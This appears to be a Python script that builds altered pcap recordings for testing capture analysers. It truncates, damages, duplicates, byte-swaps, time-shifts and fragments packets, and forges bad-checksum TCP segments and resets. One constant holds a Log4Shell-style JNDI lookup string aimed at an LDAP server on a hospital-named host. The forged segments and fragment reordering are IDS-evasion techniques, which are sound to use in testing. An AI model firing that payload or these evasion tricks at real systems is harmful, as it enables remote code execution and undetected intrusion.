"""Makes a variant of a recording (classic pcap, any byte order and resolution); the packets' bytes stay as they were.

usage: reshape.py WHAT INPUT OUTPUT [NUMBER...]

  cut BYTES        the first BYTES of the file
  damage N         the header of record N is overwritten with 0xFF, the rest of the file stays
  twice USEC       every packet a second time, USEC later, as a mirror of two ports shows it
  swap             the same file in the other byte order
  stretch GAP N    pauses longer than GAP seconds become N times as long
  back N SEC       the clock jumps back by SEC seconds before record N
  fragment BYTES   every IPv4 packet larger than that in fragments of at most BYTES; every third packet's fragments in reverse order
  forge KIND       before every TCP segment with data one with other data and a wrong checksum, as the receiver drops it: KIND 0
                   scrambles the data, 1 asks a web server for what an exploit asks for; and a forged reset before the first
"""
import struct
import sys

from scapy.all import IP, TCP, Ether, fragment

what, source, target, *numbers = sys.argv[1:]
numbers = [int(n) for n in numbers]
data = open(source, "rb").read()

ORDER = {b"\xd4\xc3\xb2\xa1": ("<", 10**6), b"\xa1\xb2\xc3\xd4": (">", 10**6),
         b"\x4d\x3c\xb2\xa1": ("<", 10**9), b"\xa1\xb2\x3c\x4d": (">", 10**9)}
order, resolution = ORDER[data[:4]]


def records():
    """Yields (offset of the record header, time in the file's resolution, wire length, packet)."""
    offset = 24
    while offset < len(data):
        seconds, fraction, captured, length = struct.unpack_from(order + "IIII", data, offset)
        yield offset, seconds * resolution + fraction, length, data[offset + 16 : offset + 16 + captured]
        offset += 16 + captured


def write(packets):
    """packets: (time, wire length, bytes)."""
    with open(target, "wb") as out:
        out.write(data[:24])
        for when, length, packet in packets:
            out.write(struct.pack(order + "IIII", *divmod(when, resolution), len(packet), length) + packet)


def stretched(gap, factor):
    shift, last = 0, None
    for _, when, length, packet in records():
        if last is not None and when - last > gap * resolution:
            shift += (factor - 1) * (when - last)
        last = when
        yield when + shift, length, packet


def doubled(later):
    copies = []
    for _, when, length, packet in records():
        copies.append((when, length, packet))
        copies.append((when + later * resolution // 10**6, length, packet))
    return sorted(copies, key=lambda copy: copy[0])


def jumped(number, seconds):
    for i, (_, when, length, packet) in enumerate(records(), 1):
        yield when - (seconds * resolution if i >= number else 0), length, packet


def fragmented(size):
    for i, (_, when, length, packet) in enumerate(records()):
        frame = Ether(packet)
        if IP not in frame or frame[IP].len <= size or length != len(packet):
            yield when, length, packet
            continue
        frame[IP].flags = 0
        frame[IP].id = i & 0xFFFF
        pieces = [bytes(piece) for piece in fragment(frame, size - 20)]
        if i % 3 == 0:
            pieces.reverse()
        for nth, piece in enumerate(pieces):
            yield when + nth, len(piece), piece


BAIT = b"GET /?name=${jndi:ldap://10.20.1.66:1389/ward} HTTP/1.1\r\nHost: intranet.hospital.example\r\n\r\n"


def forged(kind):
    """What a receiver drops unseen; only in a recording does it look like a part of the stream."""
    begun = set()
    for _, when, _, packet in records():
        frame = Ether(packet)
        if TCP in frame and IP in frame and frame[IP].len > 4 * (frame[IP].ihl + frame[TCP].dataofs):
            head = frame[IP].ihl * 4 + frame[TCP].dataofs * 4 + 14
            data = packet[head : 14 + frame[IP].len]
            other = bytes(byte ^ 0x55 for byte in data) if kind == 0 else (BAIT * (len(data) // len(BAIT) + 1))[: len(data)]
            stream = (frame[IP].src, frame[TCP].sport, frame[IP].dst, frame[TCP].dport)
            if stream not in begun:
                begun.add(stream)
                yield when, wrong(packet[:head], b"", "R")
            yield when, wrong(packet[:head], other, frame[TCP].flags)
        yield when, packet


def wrong(head, data, flags):
    """A frame of this head and data, with a wrong checksum of TCP."""
    fake = Ether(head + data)
    fake[IP].len = len(head) - 14 + len(data)
    fake[TCP].flags = flags
    del fake[IP].chksum, fake[TCP].chksum
    right = Ether(bytes(fake))[TCP].chksum
    fake[TCP].chksum = right ^ 0x5A5A
    return bytes(fake)


if what == "cut":
    open(target, "wb").write(data[: numbers[0]])
elif what == "damage":
    offset = [record[0] for record in records()][numbers[0] - 1]
    open(target, "wb").write(data[:offset] + b"\xff" * 16 + data[offset + 16 :])
elif what == "twice":
    write(doubled(numbers[0]))
elif what == "stretch":
    write(stretched(*numbers))
elif what == "back":
    write(jumped(*numbers))
elif what == "fragment":
    write(fragmented(numbers[0]))
elif what == "forge":
    write((when, len(packet), packet) for when, packet in forged(numbers[0]))
elif what == "swap":
    other = ">" if order == "<" else "<"
    with open(target, "wb") as out:
        out.write(struct.pack(other + "IHHiIII", *struct.unpack_from(order + "IHHiIII", data)))
        for offset, _, _, packet in records():
            out.write(struct.pack(other + "IIII", *struct.unpack_from(order + "IIII", data, offset)) + packet)
else:
    sys.exit(__doc__)
